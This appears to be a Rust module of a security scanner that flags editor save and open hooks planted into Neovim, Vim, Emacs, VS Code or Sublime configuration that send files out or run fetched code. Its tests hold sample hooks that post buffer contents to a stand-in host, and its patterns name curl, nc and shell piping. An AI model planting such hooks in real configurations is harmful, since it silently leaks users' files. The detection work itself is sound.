//! Round 30 (covert30, nvim-plugin-scaffold): code an editor runs on its
//! own events, once for every editor. One table of event registrations
//! ([`EVENTS`]): Neovim `nvim_create_autocmd("BufWritePost", …)`, Vim
//! `autocmd BufWritePost * …` (also inside `vim.cmd[[…]]`), Emacs
//! `(add-hook 'after-save-hook …)`, VS Code `workspace.onDidSaveTextDocument(`,
//! Sublime `def on_post_save(`. The editor runs the callback on every save,
//! open or start, without the user asking; when the callback sends
//! ([`SENDS`]: `curl` through `jobstart`/`vim.system`/`io.popen`,
//! `plenary.curl`, `url-retrieve`, `fetch(`, `https.request(`, `requests.post`)
//! every buffer or file leaves the machine on every save. When it fetches
//! and runs code ([`RUNS_FETCHED`]), every save runs what a server says.
//!
//! Read where the registration runs by itself: in a file that is an editor
//! start-up place (`init.lua`, `.vimrc`, `init.el`, a `plugin/` file of a
//! Neovim or Vim config), or in a file that writes into the editor's
//! configuration ([`EDITOR_PLACES`]: `stdpath("config")`, `~/.config/nvim`,
//! `~/.emacs.d`, `Packages/User`) — the scaffold that plants a "dev loader"
//! in the user's config. The step is a persistence step (tag `rc-file`)
//! carrying the body's intent (`persists-covert-send` /
//! `persists-remote-code`): SK-PRIV-004 high, an intent signal.
//!
//! Quiet: format-on-save that runs a local formatter (`vim.lsp.buf.format`,
//! `!black %`), a callback that only writes locally, and a registration in a
//! file that neither is nor writes an editor start-up place (a plugin's
//! source the user installs through a plugin manager is its own code,
//! judged by the send rules).

use super::{Sink, Src};
use crate::evidence::{Evidence, Op, Origin, Tag};
use crate::ssl::vocab::{ActType as A, ResourceScope as R};

/// Event registrations of each editor; the capture is the event's name.
static EVENTS: crate::rx::Lazy = crate::rx::Lazy::new(
    r#"(?x)
      nvim_create_autocmd\s*\(\s*\{?\s*["'](?P<a>\w+)
    | \bau(?:tocmd)?!?\s+(?:[\w-]+\s+)?(?P<b>(?:Buf|File|Vim|Text|Insert|Focus|Cursor)\w*)\b
    | \(\s*add-hook\s+'(?P<c>[\w-]+-(?:hook|functions))
    | \bworkspace\s*\.\s*(?P<d>onDid(?:Save|Open|Change|Close)TextDocument)\s*\(
    | \bdef\s+(?P<e>on_(?:post_save|pre_save|load|modified|activated)(?:_async)?)\s*\(
    "#,
);

/// A send in the callback's body, in every editor's language.
static SENDS: crate::rx::Lazy = crate::rx::Lazy::new(
    r#"(?x)
      ["']curl["'] | \bcurl\s+- | \bwget\s | plenary\.curl | \bvim\.net\b
    | \burl-retrieve | \brequest\s*\(\s*["']https? | \bfetch\s*\( | \bhttps?\.request\s*\(
    | \brequests\.(?:post|put)\s*\( | \burlopen\s*\( | \baxios\.(?:post|put)\s*\(
    | \bsocket\.(?:tcp|connect)\b | \bnc\s+-
    "#,
);

/// A fetch whose text is run (`loadstring(…)`, `load(…)()`, `| sh`,
/// `eval(`, `(eval (read …))`).
static RUNS_FETCHED: crate::rx::Lazy = crate::rx::Lazy::new(
    r#"\bloadstring\s*\(|\bload\s*\([^)]*\)\s*\(|\|\s*(?:ba|z)?sh\b|\beval\s*\(|\(eval\b|\bdofile\s*\("#,
);

/// Spellings of the editor configuration folders a writer plants into.
const EDITOR_PLACES: &[&str] = &[
    "stdpath(\"config\")",
    "stdpath('config')",
    ".config/nvim",
    "nvim/plugin",
    "nvim/after",
    "/.vim/plugin",
    "vimfiles/plugin",
    ".vimrc",
    "init.vim",
    "init.lua",
    ".emacs.d",
    "/.emacs",
    "Packages/User",
    ".vscode/extensions",
];

/// Bytes after a registration read as its callback.
const BODY_WINDOW: usize = 1200;

/// Whether `src` runs by itself in an editor (its path is a start-up
/// place) or writes into an editor's configuration.
fn placed(src: &Src) -> bool {
    let p = src.path.replace('\\', "/").to_ascii_lowercase();
    let runs_as = super::autorun::place_of(&p).map(|pl| pl.runs_as);
    let editor_place = matches!(
        runs_as,
        Some(super::autorun::RunsAs::Vim | super::autorun::RunsAs::Lisp)
    ) || p.ends_with("/nvim/init.lua")
        || (p.contains("nvim/plugin/") || p.contains(".vim/plugin/") || p.contains("nvim/after/"))
            && (p.ends_with(".lua") || p.ends_with(".vim"));
    editor_place || EDITOR_PLACES.iter().any(|w| src.text.contains(w)) && writes(src.text)
}

/// A file write in any language.
fn writes(text: &str) -> bool {
    static W: crate::rx::Lazy = crate::rx::Lazy::new(
        r#"\bio\.open\s*\([^)]*["'][wa]\+?["']|[.:]write\s*\(|\bwritefile\s*\(|\bwrite_text\s*\(|\bwriteFileSync\s*\(|\bappendFileSync\s*\(|\bopen\s*\([^)]*["'][wa]\+?["']|>>?\s*["'$~]|\btee\b|\bSet-Content\b|\bAdd-Content\b|\bwith-temp-file\b|\bappend-to-file\b|\bwrite-region\b|\bfile_put_contents\s*\(|\bFile\.write\s*\("#,
    );
    W.is_match(text)
}

/// Adds a persistence step for every editor event whose callback sends
/// or runs fetched code, in a file that is or writes an editor start-up
/// place (see the module docs).
pub fn scan(src: &Src, sink: &mut Sink) {
    if !matches!(src.origin, Origin::Script | Origin::Hook) {
        return;
    }
    let text = src.text;
    if !EVENTS.is_match(text) || !placed(src) {
        return;
    }
    for (n, c) in EVENTS.captures_iter(text).enumerate() {
        if n >= crate::limits::EDITOR_HOOKS_MAX_EVENTS {
            crate::limits::gave_up("EDITOR_HOOKS_MAX_EVENTS");
            return;
        }
        let Some(all) = c.get(0) else { continue };
        let event = ["a", "b", "c", "d", "e"]
            .iter()
            .find_map(|k| c.name(k))
            .map_or("", |m| m.as_str());
        let stop = crate::text::clamp_boundary(text, (all.end() + BODY_WINDOW).min(text.len()));
        let body = &text[all.start()..stop];
        let Some(send) = SENDS.find(body) else {
            continue;
        };
        let remote = RUNS_FETCHED.is_match(body);
        let (tag, what) = if remote {
            (
                Tag::PersistsRemoteCode,
                "fetches and runs code on every such event",
            )
        } else {
            (
                Tag::PersistsCovertSend,
                "sends the buffer or file out on every such event",
            )
        };
        let end = all.start() + send.end();
        let ev = Evidence::new(Op::Persistence, A::UpdateState, R::Process, event)
            .tag(Tag::RcFile)
            .tag(tag)
            .instrument("editor event")
            .object(format!(
                "editor code run on its own event ({event}) that {what}"
            ));
        sink.push(src.at(ev, all.start(), end, "code"));
        return;
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn run(path: &str, text: &str) -> Vec<Evidence> {
        crate::extract::scan_text(scan, path, text)
    }

    #[test]
    fn event_callbacks_that_send_in_every_editor() {
        for (p, code) in [
            (
                "lua/scaffold.lua",
                "local loader = [[\nvim.api.nvim_create_autocmd(\"BufWritePost\", {\n  callback = function(ev)\n    vim.fn.jobstart({\"curl\", \"-s\", \"--data-binary\", \"@\" .. ev.file, sink})\n  end,\n})\n]]\nlocal cfg = vim.fn.stdpath(\"config\") .. \"/plugin/dev.lua\"\nlocal f = io.open(cfg, \"w\")\nf:write(loader)\n",
            ),
            (
                "home/.vimrc",
                "set number\nautocmd BufWritePost * silent call system('curl -s -F f=@' . expand('%:p') . ' https://h.example/u')\n",
            ),
            (
                "setup.py",
                "HOOK = \"(add-hook 'after-save-hook (lambda () (url-retrieve (concat \\\"https://h.example/s?\\\" (buffer-string)) #'ignore)))\"\nwith open(os.path.expanduser('~/.emacs.d/init.el'), 'a') as f:\n    f.write(HOOK)\n",
            ),
            (
                "install.js",
                "const js = `vscode.workspace.onDidSaveTextDocument(d => fetch('https://h.example/s', {method: 'POST', body: d.getText()}))`;\nfs.writeFileSync(path.join(os.homedir(), '.vscode/extensions/sync/extension.js'), js);\n",
            ),
        ] {
            let e = run(p, code);
            assert!(
                e.iter()
                    .any(|e| e.op == Op::Persistence && e.has(Tag::PersistsCovertSend)),
                "{p}: {e:#?}"
            );
        }
    }

    #[test]
    fn format_on_save_and_unplaced_plugins_are_quiet() {
        for (p, code) in [
            // Format on save with a local formatter, written to the config.
            (
                "lua/setup.lua",
                "local t = [[\nvim.api.nvim_create_autocmd(\"BufWritePre\", { callback = function() vim.lsp.buf.format() end })\n]]\nlocal f = io.open(vim.fn.stdpath(\"config\") .. \"/plugin/fmt.lua\", \"w\")\nf:write(t)\n",
            ),
            ("home/.vimrc", "autocmd BufWritePost *.py silent !black %\n"),
            // A plugin's own source that reports to its service: not planted.
            (
                "lua/telemetry/init.lua",
                "vim.api.nvim_create_autocmd(\"BufWritePost\", { callback = function() require('plenary.curl').post(M.url, {body = '{}'}) end })\n",
            ),
        ] {
            let e = run(p, code);
            assert!(e.is_empty(), "{p}: {e:#?}");
        }
    }
}
